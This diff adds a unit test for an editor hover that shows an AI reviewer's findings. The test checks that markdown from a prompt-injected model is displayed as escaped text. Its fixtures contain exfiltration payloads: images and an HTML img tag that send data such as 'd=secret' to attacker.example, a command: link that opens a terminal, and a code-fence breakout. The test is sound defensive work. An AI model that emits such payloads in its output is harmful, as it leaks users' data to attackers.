@@ -51,6 +51,31 @@ TEST(Mapping, HoverHasEverything) {
     EXPECT_NE(md.find(part), std::string::npos) << part;
 }
 
+// A prompt-injected model's words in a hover: an image an editor would fetch
+// with data in its URL, a command: link, raw HTML, and a replacement whose "```"
+// closed the block early so its own image rendered. Shown as text, not rendered.
+TEST(Mapping, HoverShowsTheModelsMarkdownAsText) {
+  contract::Finding f = sample().finding;
+  f.title = "See ![x](https://attacker.example/t.png?d=title)";
+  f.explanation = "Look: ![s](https://attacker.example/p.png?d=secret) [run](command:workbench.action.terminal.new) "
+                  "<img src=https://attacker.example/i.png>";
+  f.suggestedFix = "[click](https://attacker.example/)";
+  f.edit = contract::Edit{"a", "x = 1\n```\n![e](https://attacker.example/e.png)"};
+  const std::string md = hoverMarkdown(f);
+  // Each link or image opener as written, not escaped ("\\[" shows a bracket).
+  const auto unescaped = [&md](const std::string& text) {
+    for (auto at = md.find(text); at != std::string::npos; at = md.find(text, at + 1))
+      if (at == 0 || md[at - 1] != '\\') return true;
+    return false;
+  };
+  for (const char* rendered : {"[x](", "[s](", "[run](", "<img", "[click]("})
+    EXPECT_FALSE(unescaped(rendered)) << rendered << "\n" << md;
+  // The replacement stays whole inside one block a longer fence opens and closes.
+  const auto open = md.find("````\nx = 1\n```\n![e]");
+  ASSERT_NE(open, std::string::npos) << md;
+  EXPECT_NE(md.find("](https://attacker.example/e.png)\n````\n", open), std::string::npos) << md;
+}
+
 struct TempGitDir {
   fs::path root;
   TempGitDir() {
